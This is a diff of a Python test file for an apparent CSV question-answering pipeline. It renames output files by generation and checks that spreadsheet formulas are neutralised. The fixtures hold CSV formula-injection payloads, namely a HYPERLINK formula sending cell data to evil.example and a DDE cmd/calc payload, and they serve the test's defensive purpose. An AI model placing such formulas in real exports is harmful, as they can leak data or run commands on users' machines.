@@ -42,12 +42,13 @@ def test_bad_input_case(catalogue_run, case):
     folder, dsn, generations, _ = catalogue_run
     uri, generation = generations[case.name]
     check_outcome(case, dsn, uri, generation, _read_local)
-    # Answered sources are deleted; failed ones moved under errors/ (checked byte for byte above).
+    # Answered sources are deleted; failed ones moved under errors/ (checked byte for byte above),
+    # both named with the file's generation.
     assert not (folder / case.file_name).exists()
     if case.kind:
-        assert (folder / "errors" / case.file_name).exists()
+        assert (folder / "errors" / f"{case.name}.{generation}.csv").exists()
     else:
-        assert (folder / "answers" / f"{case.name}.answers.csv").exists()
+        assert (folder / "answers" / f"{case.name}.{generation}.answers.csv").exists()
 
 
 def test_every_file_ends_in_exactly_one_state(catalogue_run):
@@ -64,9 +65,9 @@ def test_every_file_ends_in_exactly_one_state(catalogue_run):
 
 def test_formula_cells_are_verbatim_in_postgres_and_neutralised_in_the_csv(catalogue_run):
     folder, dsn, generations, _ = catalogue_run
-    uri, _ = generations["formula_injection"]
+    uri, generation = generations["formula_injection"]
     stored = query(dsn, "SELECT id, question FROM qa_answers WHERE source_uri = %s ORDER BY row_index", (uri,))
     assert stored[0] == ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")')
-    text = (folder / "answers" / "formula_injection.answers.csv").read_bytes().decode()
+    text = (folder / "answers" / f"formula_injection.{generation}.answers.csv").read_bytes().decode()
     assert text.startswith("id,question,context,'=cmd|' /C calc'!A0,answer,")
     assert "\r\n'=1+1,\"'=HYPERLINK(" in text
